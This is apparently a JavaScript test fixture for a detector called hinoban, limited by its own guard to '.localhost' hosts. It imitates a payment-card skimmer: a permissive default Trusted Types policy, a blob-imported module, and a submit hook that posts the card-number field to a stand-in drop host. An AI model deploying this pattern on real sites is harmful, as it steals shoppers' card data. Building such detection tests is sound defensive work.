/* Harmless imitation, for hinoban's tests: a module of blob by import(), under a Trusted Types policy of its own. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var tt = window.trustedTypes, p = tt && tt.createPolicy ? tt.createPolicy('default', {createScript: String, createScriptURL: String, createHTML: String}) : null;
	var code = "document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]');" +
		"if (n) fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: n.value.replace(/\\d/g, function (d) { return 9 - d; })}); }, true);";
	import(URL.createObjectURL(new Blob([p ? p.createScript(code) : code], {type: 'text/javascript'})));
})();
